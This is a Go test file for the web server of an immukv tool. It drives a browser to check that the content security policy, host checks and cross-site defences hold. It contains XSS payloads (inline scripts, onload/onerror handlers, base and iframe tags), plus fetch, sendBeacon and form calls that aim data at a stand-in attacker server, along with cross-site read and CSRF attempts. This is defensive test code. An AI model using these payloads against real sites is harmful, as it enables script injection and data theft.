package serve_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"

	"github.com/immukv/immukv-go/immukv"
	"github.com/immukv/immukv-go/immukv/cli/internal/serve/chromium"
)

// elsewhere is a server of somebody else's, to which nothing may go.
type elsewhere struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func (v *visitor) startElsewhere() *elsewhere {
	e := &elsewhere{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		defer e.mu.Unlock()
		e.seen = append(e.seen, r.URL.Path)
	}))
	v.Cleanup(e.Close)
	return e
}

// reached is what went there.
func (e *elsewhere) reached() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.seen
}

// testMarkup has the server write what an attacker would have it write, had he found a
// way to, into each page. Nothing of it runs, or loads.
func (v *visitor) testMarkup() {
	other := v.startElsewhere()
	store := v.newStore()
	v.small(store)
	v.serve(store)
	injected := map[string]string{
		"script":    `<script>window.hacked = 1</script>`,
		"other":     `<script src="HOST/script"></script>`,
		"handler":   `<img src="/static/icon.svg" alt="" onload="window.hacked = 2"><input autofocus aria-label=x onfocus="window.hacked = 3">`,
		"svg":       `<svg onload="window.hacked = 4"></svg>`,
		"frame":     `<iframe title=x srcdoc="<script>parent.hacked = 5</script>"></iframe><iframe title=y src="HOST/frame"></iframe>`,
		"style":     `<style>body { --hacked: 6 }</style><p style="--hacked: 6">`,
		"sheet":     `<link rel=stylesheet href="HOST/sheet">`,
		"image":     `<img alt="" src="HOST/image">`,
		"object":    `<object data="HOST/object"></object><embed src="HOST/embed">`,
		"base":      `<base href="HOST/">`,
		"data":      `<script src="data:text/javascript,window.hacked=7"></script>`,
		"preload":   `<link rel=preload as=script href="HOST/preload">`,
		"video":     `<video src="HOST/video"></video>`,
		"own value": `<script src="/key/value?key=code&sequence=3"></script>`,
	}
	v.run("--store", store, "set", "code", `"window.hacked = 8"`)
	var now atomic.Value
	now.Store("")
	check(v, v.tab.Rewrite(func(page string) string { return strings.Replace(page, "</main>", now.Load().(string)+"</main>", 1) }))
	for _, path := range []string{"/keys", "/key?key=a", "/log", "/trust", "/nothing"} {
		for name, text := range injected {
			markup := strings.ReplaceAll(text, "HOST", other.URL)
			now.Store(markup)
			v.status(path)
			if !eval[bool](v, fmt.Sprintf(`document.documentElement.outerHTML.includes(%s)`, quote(markup[:6]))) {
				v.Errorf("%s, %s: nothing was injected", path, name)
			}
			if eval[bool](v, `"hacked" in window || getComputedStyle(document.body).getPropertyValue("--hacked") !== "" || document.baseURI !== location.href`) {
				v.Errorf("%s, %s: it ran", path, name)
			}
			problems, err := v.tab.Problems()
			check(v, err)
			stopped := false
			for _, p := range problems {
				stopped = stopped || p.Kind == chromium.Security
			}
			if !stopped {
				v.Errorf("%s, %s: the browser stopped nothing: %v", path, name, problems)
			}
		}
	}
	if got := other.reached(); len(got) > 0 {
		v.Errorf("requests went to another host: %q", got)
	}
	v.done = true // the icon of a page may be late
}

// testPolicy has a script that runs in a page do what an attacker would. It can neither
// make more of itself, nor tell anybody.
func (v *visitor) testPolicy() {
	other := v.startElsewhere()
	store := v.newStore()
	v.small(store)
	v.serve(store)
	for _, path := range []string{"/keys", "/key?key=a", "/log", "/trust"} {
		for name, injection := range map[string]string{
			"inline script":   `const s = document.createElement("script"); s.append("window.hacked = 1"); document.body.append(s)`,
			"script of other": `const s = document.createElement("script"); s.setAttribute("src", HOST + "/script"); document.body.append(s)`,
			"handler":         `const b = document.createElement("b"); b.setAttribute("onclick", "window.hacked = 2"); document.body.append(b); b.click()`,
			"markup":          `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = 3'>")`,
			"code in a text":  `new Function("window.hacked = 4")()`,
			"style":           `const s = document.createElement("style"); s.append("body { --hacked: 1 }"); document.body.append(s); if (getComputedStyle(document.body).getPropertyValue("--hacked")) window.hacked = 5`,
			"image":           `new Image().src = HOST + "/image"`,
			"fetch":           `fetch(HOST + "/fetch").catch(() => {})`,
			"beacon":          `navigator.sendBeacon(HOST + "/beacon", "values")`,
			"frame":           `const f = document.createElement("iframe"); f.src = HOST + "/frame"; document.body.append(f)`,
			"form":            `const f = document.createElement("form"); f.action = HOST + "/form"; document.body.append(f); f.submit()`,
			"base":            `const b = document.createElement("base"); b.href = HOST; document.head.append(b); if (document.baseURI.startsWith(HOST)) window.hacked = 6`,
			"link":            `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = HOST + "/sheet"; document.head.append(l)`,
		} {
			v.visit(path)
			check(v, v.tab.Inject(fmt.Sprintf(`{ const HOST = %s; addEventListener("securitypolicyviolation", () => window.stopped = true);
				try { %s } catch (e) { window.stopped = true } }`, quote(other.URL), injection)))
			if err := v.tab.Until(`window.stopped`); err != nil {
				v.Errorf("%s, %s: %v", path, name, err)
			}
			if eval[bool](v, `"hacked" in window`) {
				v.Errorf("%s, %s: it ran", path, name)
			}
		}
	}
	v.done = true // the problems are those of the injections
	if got := other.reached(); len(got) > 0 {
		v.Errorf("requests went to another host: %q", got)
	}
}

// testRebinding visits the server under a name of somebody else's, which resolves to
// this machine. The pages would be of the origin of that name, and its scripts could
// read them.
func (v *visitor) testRebinding() {
	store := v.newStore()
	v.fill(store, func(db *immukv.Client[json.RawMessage]) { v.set(db, "k", `"secret"`) })
	v.serve(store)
	home := v.home
	v.visit("/key?key=k")
	v.reads("main", "secret")
	v.home = strings.Replace(home, "127.0.0.1", chromium.ForeignName, 1)
	for _, path := range []string{"/", "/keys", "/key?key=k", "/key/value?key=k&sequence=0", "/log", "/log/events?after=-1", "/trust", "/static/log.js"} {
		if status := v.status(path); status != http.StatusMisdirectedRequest {
			v.Errorf("%s under another name: status %d", path, status)
		}
		if text := v.text("body"); strings.Contains(text, "secret") || !strings.Contains(text, "This server does not answer to that name") {
			v.Errorf("%s: %s", path, text)
		}
	}
	v.done = true // style and icon are refused like the pages, and that is a problem
	// A name that is told by --host is answered.
	w := v.open(v.T)
	w.serve(store, "--host", chromium.ForeignName)
	w.home = strings.Replace(w.home, "127.0.0.1", chromium.ForeignName, 1)
	w.visit("/key?key=k")
	w.reads("main", "secret")
	// The browser says that a header means nothing over HTTP, unless it is from loopback.
	w.expect(chromium.Console)
}

// testOtherSites has a page of another site do to the server what a page can do to
// another site. The browser sends its requests from this machine.
func (v *visitor) testOtherSites() {
	store := v.newStore()
	v.fill(store, func(db *immukv.Client[json.RawMessage]) { v.set(db, "k", `"secret"`) })
	v.serve(store)
	home := v.home
	var page atomic.Value
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><html lang=en><link rel=icon href="data:,"><title>elsewhere</title>`, page.Load())
	}))
	v.Cleanup(attacker.Close)
	// As another port, and as another site.
	for _, site := range []string{attacker.URL, strings.Replace(attacker.URL, "127.0.0.1", chromium.ForeignName, 1)} {
		for name, c := range map[string]struct{ markup, script, want string }{
			"read":          {``, `fetch(HOME + "/key?key=k").then(r => r.text(), e => "failed")`, "failed"},
			"read opaquely": {``, `fetch(HOME + "/key?key=k", {mode: "no-cors"}).then(r => r.text(), e => "failed")`, "failed"},
			"start":         {``, `fetch(HOME + "/trust/audit", {method: "POST", mode: "no-cors"}).then(r => r.text(), e => "failed")`, "failed"},
			"stream":        {``, `new Promise(ok => { const s = new EventSource(HOME + "/log/events?after=-1"); s.onerror = () => { s.close(); ok("failed") }; s.onmessage = e => ok(e.data) })`, "failed"},
			"script":        {``, `new Promise(ok => { const s = document.createElement("script"); s.src = HOME + "/static/log.js"; s.onload = () => ok("loaded"); s.onerror = () => ok("failed"); document.head.append(s) })`, "failed"},
			"image":         {``, `new Promise(ok => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = () => ok("failed"); i.src = HOME + "/static/icon.svg" })`, "failed"},
			"frame":         {`<iframe title=frame src="` + home + `/key?key=k"></iframe>`, `Promise.resolve(frames[0].length === 0 ? (() => { try { return frames[0].document.body.innerText } catch { return "failed" } })() : "framed")`, "failed"},
			"window":        {``, `Promise.resolve((() => { const w = open(HOME + "/key?key=k"); try { return w?.document?.body?.innerText || "failed" } catch { return "failed" } })())`, "failed"},
		} {
			v.home = site
			page.Store(c.markup)
			v.visit("/")
			script := strings.ReplaceAll(c.script, "HOME", quote(home))
			eval[bool](v, `(`+script+`).then(r => { window.result = r }), true`)
			v.until(`typeof window.result === "string"`)
			if got := eval[string](v, "result"); got != c.want {
				v.Errorf("%s from %s: %q", name, site, got)
			}
			if _, err := v.tab.Problems(); err != nil { // which are the attacker's
				v.Error(err)
			}
		}
		// A form sends the user along. Nothing starts.
		page.Store(`<form id=f method=post action="` + home + `/trust/audit"><button>Win</button></form>`)
		v.visit("/")
		v.click("button")
		v.until(`document.querySelector("#error")`)
		v.reads("h1", "The request came from another site")
		_, _ = v.tab.Problems()
		// A link leads the user to a page, as links do.
		page.Store(`<a href="` + home + `/key?key=k">see</a>`)
		v.visit("/")
		v.click("a")
		v.until(`document.querySelector("#history")`)
		_, _ = v.tab.Problems()
	}
	v.done = true // the problems are those of the other sites
	v.home = home
	v.visit("/trust")
	if eval[bool](v, `!!document.querySelector("#report") || document.querySelector("#verification").dataset.running === "true"`) {
		v.Error("another site started a verification")
	}
}
